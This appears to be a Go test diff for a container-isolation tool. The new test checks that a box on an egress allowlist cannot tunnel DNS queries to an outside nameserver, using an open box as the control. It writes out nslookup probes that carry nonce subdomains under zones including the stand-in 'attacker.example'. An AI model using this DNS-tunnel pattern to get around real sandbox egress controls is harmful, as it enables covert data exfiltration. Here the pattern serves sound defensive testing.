@@ -13,6 +13,8 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/box-isolation/box/fixtures/world"
+	"github.com/box-isolation/box/internal/testenv"
+	"github.com/box-isolation/box/probes"
 	"github.com/box-isolation/box/stack"
 )
 
@@ -87,4 +89,51 @@ func TestSystemEgressAllowlist(t *testing.T) {
 	res = r.run(t, "doctor", "--fix")
 	t.Logf("doctor --fix after the last allowlisted box: %s", res.out)
 	assert.Contains(t, res.out, "no box names it")
+}
+
+// TestSystemEgressTunnel is the DNS tunnel an allowlist must not leave
+// open: box-w, allowed only the canary's name, asks its gateway for names
+// under a zone the world's witness nameserver is authoritative for (one
+// under the allowed name, one beside it, one elsewhere). None of its
+// queries may reach the witness, while the same questions from an open
+// box do (the control: without it the witness's silence proves nothing).
+func TestSystemEgressTunnel(t *testing.T) {
+	r, c := worldBox(t)
+	st := testenv.World(t)
+	portWatcher(t, st, c)
+	w, o := uniq(t), uniq(t)
+	cleanup(t, c, w, o)
+	allow := filepath.Join(t.TempDir(), "allow")
+	require.NoError(t, os.WriteFile(allow, []byte("canary.example.net\n"), 0o644))
+	res := r.run(t, "new", "--name", w, "--egress", "allow:"+allow)
+	require.Equal(t, exitOK, res.code, res.err)
+	res = r.run(t, "new", "--name", o)
+	require.Equal(t, exitOK, res.code, res.err)
+
+	since := time.Now()
+	zones := []string{"canary.example.net", "other.example.net", "attacker.example"}
+	ask := func(box string) map[string]string {
+		names := map[string]string{}
+		var script strings.Builder
+		for _, z := range zones {
+			n := probes.NewNonce() + "." + z
+			names[z] = n
+			fmt.Fprintf(&script, "nslookup %s 10.88.0.1; ", n)
+		}
+		res := r.run(t, "exec", box, "--", "sh", "-c", script.String())
+		t.Logf("%s asked: %s", box, res.out)
+		return names
+	}
+	tunnel, control := ask(w), ask(o)
+	// The witness logs a query as it answers it; the answers are back.
+	qs, err := world.ReadWitnessLog(world.WitnessLog(st.StateDir), since)
+	require.NoError(t, err)
+	heard := map[string]bool{}
+	for _, q := range qs {
+		heard[strings.TrimSuffix(q.Name, ".")] = true
+	}
+	for _, z := range zones {
+		require.True(t, heard[control[z]], "the open box's %s reached the witness (its control): %v", control[z], qs)
+		assert.False(t, heard[tunnel[z]], "%s, asked by the allowlisted box, reached the witness nameserver: a DNS tunnel", tunnel[z])
+	}
 }
